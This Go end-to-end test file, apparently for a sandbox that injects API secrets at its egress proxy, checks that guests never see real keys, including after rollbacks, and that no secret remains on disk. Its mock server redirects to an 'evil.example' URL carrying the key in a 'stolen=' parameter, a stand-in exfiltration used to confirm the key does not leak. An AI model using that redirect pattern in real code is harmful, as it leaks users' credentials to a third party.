package e2e_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"bulkhead/client"
	"bulkhead/internal/addressing"
	"bulkhead/internal/daemon"
	"bulkhead/internal/egress/authority"
	"bulkhead/test/harness"
	"bulkhead/test/inside"

	"golang.org/x/sys/unix"
)

const (
	keyValue   = "sk-live-6f1d0c8b7a5e4932"
	tokenValue = "ghp_b1946ac92492d2347c62"
)

// services is the world in this test: two hosts that want a key, and whoever
// else is asked for.
type services struct {
	*httptest.Server
	got chan *http.Request
	git http.Handler
}

// newServices returns it and what it is verified by.
func newServices(t *testing.T) (*services, *x509.CertPool) {
	t.Helper()
	world, err := authority.New(time.Now)
	if err != nil {
		t.Fatal(err)
	}
	names := []string{"api.example", "code.example"}
	if _, err := world.Cover(names); err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(world.Root())
	s := &services{got: make(chan *http.Request, 100), git: repository(t)}
	s.Server = httptest.NewUnstartedServer(http.HandlerFunc(s.answer))
	s.TLS = &tls.Config{GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) { return world.Leaf(h.ServerName) }}
	s.EnableHTTP2 = true
	s.Config.ErrorLog = log.New(io.Discard, "", 0)
	s.StartTLS()
	t.Cleanup(s.Close)
	return s, roots
}

// answer says back whatever it is told.
func (s *services) answer(w http.ResponseWriter, r *http.Request) {
	s.got <- r
	if strings.HasPrefix(r.URL.Path, "/repo.git/") {
		s.git.ServeHTTP(w, r)
		return
	}
	if r.URL.Path == "/moved" {
		http.Redirect(w, r, "https://evil.example/?stolen="+r.Header.Get("X-Api-Key"), http.StatusFound)
		return
	}
	fmt.Fprintf(w, "hello %s %s\n", r.Header.Get("X-Api-Key"), r.Header.Get("Authorization"))
}

// last returns the latest request.
func (s *services) last() (r *http.Request) {
	for r = <-s.got; ; r = <-s.got {
		if len(s.got) == 0 {
			return r
		}
	}
}

// Resolve implements egress.Out.
func (s *services) Resolve(context.Context, string) ([]netip.Addr, error) {
	return []netip.Addr{netip.MustParseAddr("93.184.215.14")}, nil
}

// Dial implements egress.Out.
func (s *services) Dial(ctx context.Context, _ netip.AddrPort) (net.Conn, error) {
	var d net.Dialer
	return d.DialContext(ctx, "tcp", s.Listener.Addr().String())
}

// A guest uses secrets that it never has: they are in none of its files, not in
// its memory, in no snapshot and in no log.
func TestSecrets(t *testing.T) {
	s, roots := newServices(t)
	h := inside.Run(t, daemon.Daemon{Clock: time.Now, Out: s, Roots: roots}, map[string]string{"egress": "none"}).Base()
	for name, value := range map[string]string{"svc": keyValue, "code": tokenValue} {
		if r := h.CLIWith(value+"\n", "secret", "set", name); r.Code != 0 {
			t.Fatal(r.Stderr)
		}
	}
	b := h.Create("keyless")
	if r := h.CLI("egress", "allow", b.Name, "api.example", "--secret", "other", "--env", "X"); r.Code == 0 || !strings.Contains(r.Stderr, "no secret is called") {
		t.Errorf("a rule with a secret that there is not: %+v", r)
	}
	// Debian's package of Java has such a hook: it is told which files are new.
	b.Sh(`printf '#!/bin/sh\ncat >> /root/hooked\n' > /etc/ca-certificates/update.d/java; chmod +x /etc/ca-certificates/update.d/java`)
	h.Must("egress", "allow", b.Name, "api.example", "--secret", "svc", "--header", "x-api-key: Key {}")
	b.Sh("until grep -q '^+.*/bulkhead' /root/hooked; do sleep 0.1; done")
	h.Must("egress", "allow", b.Name, "code.example", "--secret", "code", "--env", "CODE_TOKEN")
	t.Run("programs", func(t *testing.T) { testPrograms(t, s, h, b) })
	t.Run("git", func(t *testing.T) { testGit(t, s, b) })
	t.Run("after a pause", func(t *testing.T) {
		h.Must("pause", b.Name)
		if got := b.Sh("curl -sS https://api.example/v1"); !strings.HasPrefix(got, "hello Key ****") {
			t.Errorf("curl gets %s", got)
		}
		s.last()
	})
	t.Run("placeholders", func(t *testing.T) { testPlaceholders(t, s, h, b) })
	t.Run("the operator sees", func(t *testing.T) { testSecretsSeen(t, h, b) })
	t.Run("nothing is left", func(t *testing.T) { testNothingLeft(t, h, b) })
	if r := h.CLI("secret", "rm", "svc"); r.Code != 0 || !strings.Contains(r.Stderr, "still named by the policy of "+b.Name) {
		t.Errorf("a secret that is in use is removed: %+v", r)
	}
	h.Must("egress", "allow", b.Name, "other.example") // which has nothing to do with it
	if got := b.Sh("curl -s -w '%{http_code}' https://api.example/"); !strings.Contains(got, "no secret is called") || !strings.HasSuffix(got, "502") {
		t.Errorf("without its secret the guest gets %s", got)
	}
	if got := h.Must("events", "--sandbox", b.Name, "--kind", "secret.missing"); !strings.Contains(got, "secret=svc") {
		t.Errorf("events do not say which secret is missing: %s", got)
	}
}

// testPrograms has programs of all kinds trust the sandbox's authority.
func testPrograms(t *testing.T, s *services, h *harness.Host, b *harness.Box) {
	const python = `python3 -c 'import urllib.request as u; print(u.urlopen("https://api.example/v1").read().decode())'`
	for name, command := range map[string]string{
		"curl":                         "curl -sS https://api.example/v1",
		"curl by HTTP/1.1":             "curl -sS --http1.1 https://api.example/v1",
		"curl by the system's store":   "env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS https://api.example/v1",
		"Python":                       python,
		"Python by the system's store": "env -u SSL_CERT_FILE " + python,
		"git":                          "git ls-remote https://api.example/v1 2>&1 || true",
	} {
		got := b.Sh(command)
		if name != "git" && !strings.HasPrefix(got, "hello Key ****") {
			t.Errorf("%s gets %s", name, got)
		}
		if strings.Contains(got, keyValue) {
			t.Errorf("%s is told the secret", name)
		}
		if r := s.last(); r.Header.Get("X-Api-Key") != "Key "+keyValue {
			t.Errorf("%s: the host gets %q", name, r.Header.Get("X-Api-Key"))
		}
	}
	t.Run("Node", func(t *testing.T) {
		h.Must("cp", program(t, "node"), b.Name+":/usr/local/bin/node")
		if got := b.Sh(`node -e 'fetch("https://api.example/v1").then(r => r.text()).then(console.log)'`); !strings.HasPrefix(got, "hello Key ****") {
			t.Errorf("it gets %s", got)
		}
		s.last()
	})
	got := b.Sh("curl -sS -o /dev/null -w '%{redirect_url}' https://api.example/moved")
	s.last()
	if strings.Contains(got, keyValue) || !strings.Contains(got, "stolen=") {
		t.Errorf("the guest is redirected to %s", got)
	}
	if got := b.Sh("curl -sS http://api.example/"); !strings.Contains(got, "may not talk to api.example:80") {
		t.Errorf("plain HTTP answers %s", got)
	}
}

func testPlaceholders(t *testing.T, s *services, h *harness.Host, b *harness.Box) {
	const ask = `curl -sS -w '%%{http_code}' -H "Authorization: Bearer %s" https://%s/`
	use := func(token, host string) string { return b.Sh(fmt.Sprintf(ask, token, host)) }
	if got := use("$CODE_TOKEN", "code.example"); !strings.HasSuffix(got, "200") || strings.Contains(got, tokenValue) {
		t.Errorf("the guest gets %s", got)
	}
	if r := s.last(); r.Header.Get("Authorization") != "Bearer "+tokenValue || r.Header.Get("X-Api-Key") != "" {
		t.Errorf("the host gets %q, %q", r.Header.Get("Authorization"), r.Header.Get("X-Api-Key"))
	}
	if got := use("$CODE_TOKEN", "api.example"); !strings.HasSuffix(got, "403") {
		t.Errorf("at another host the guest gets %s", got)
	}
	old := b.Sh("echo $CODE_TOKEN")
	h.Must("snapshot", b.Name, "--name", "before")
	h.Must("rollback", b.Name, "before")
	if now := b.Sh("echo $CODE_TOKEN"); now == old || !strings.HasPrefix(now, "bulkhead_") {
		t.Errorf("after a rollback the placeholder is %q, was %q", now, old)
	}
	if got := use(old, "code.example"); !strings.HasSuffix(got, "403") || !strings.Contains(got, "rollback") {
		t.Errorf("with the old one the guest gets %s", got)
	}
	if got := use("$CODE_TOKEN", "code.example"); !strings.HasSuffix(got, "200") {
		t.Errorf("with the new one the guest gets %s", got)
	}
	s.last()
}

func testSecretsSeen(t *testing.T, h *harness.Host, b *harness.Box) {
	var all []client.Secret
	h.JSON(&all, "secret", "ls")
	if len(all) != 2 || all[0].Name != "code" || len(all[0].UsedBy) != 1 || all[0].UsedBy[0] != b.Name {
		t.Errorf("the secrets are %+v", all)
	}
	var r client.BlastRadius
	h.JSON(&r, "blast-radius", b.Name)
	if got := strings.Join(r.Secrets, "; "); got != "code as $CODE_TOKEN at https://code.example; svc as header X-Api-Key at https://api.example" {
		t.Errorf("blast-radius says %s", got)
	}
	if got := strings.Join(r.Link["devices"], "; "); got != "lo; tap0 "+addressing.GatewayMAC || len(r.Link["rules"]) < 15 ||
		len(r.Link["sockets"]) != 3 || len(r.Link["routes"]) != 1 || len(r.Devices) != 6 || len(r.Holes) > 0 {
		t.Errorf("blast-radius says %+v", r)
	}
	if page := h.Must("blast-radius", b.Name); strings.Count(page, "\n") > 66 || !strings.Contains(page, "rules   ") { // lines of a printed page
		t.Errorf("the page is %s", page)
	}
	for _, kind := range []string{"secret.set", "secret.used", "secret.echoed", "secret.stale"} {
		if h.Must("events", "--kind", kind) == "" {
			t.Errorf("there is no event %s", kind)
		}
	}
}

// testNothingLeft searches all that there is of the machine and of the daemon.
func testNothingLeft(t *testing.T, h *harness.Host, b *harness.Box) {
	b.Sh("sync")
	h.Must("snapshot", b.Name, "--name", "after")
	placeholder := b.Sh("echo $CODE_TOKEN")
	found := search(t, h.Dir, keyValue, tokenValue, placeholder)
	for _, value := range []string{keyValue, tokenValue} {
		if len(found[value]) > 0 {
			t.Errorf("%s is in %v", value, found[value])
		}
	}
	memory := false
	for _, path := range found[placeholder] {
		memory = memory || strings.Contains(path, "mem")
	}
	if !memory {
		t.Errorf("the search would not have found it: the placeholder is in %v", found[placeholder])
	}
}

// search returns in which files below dir each needle is.
func search(t *testing.T, dir string, needles ...string) map[string][]string {
	t.Helper()
	found := map[string][]string{}
	err := filepath.WalkDir(dir, func(path string, e fs.DirEntry, err error) error {
		if errors.Is(err, fs.ErrNotExist) {
			return nil
		}
		if err != nil || !e.Type().IsRegular() || e.Name() == "pool.img" { // which is what the pool's files are in
			return err
		}
		for _, n := range searchFile(t, path, needles) {
			found[n] = append(found[n], path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return found
}

// searchFile returns which needles are in a file, holes left out.
func searchFile(t *testing.T, path string, needles []string) (found []string) {
	t.Helper()
	f, err := os.Open(path)
	if errors.Is(err, fs.ErrNotExist) {
		return nil
	}
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	const piece, overlap = 1 << 20, 64
	buf := make([]byte, piece+overlap)
	seen := map[string]bool{}
	for at := int64(0); ; {
		at, err = unix.Seek(int(f.Fd()), at, unix.SEEK_DATA)
		if err != nil { // no data follows
			return found
		}
		n, err := f.ReadAt(buf, at)
		for _, needle := range needles {
			if !seen[needle] && bytes.Contains(buf[:n], []byte(needle)) {
				seen[needle] = true
				found = append(found, needle)
			}
		}
		if err != nil {
			return found
		}
		at += piece
	}
}
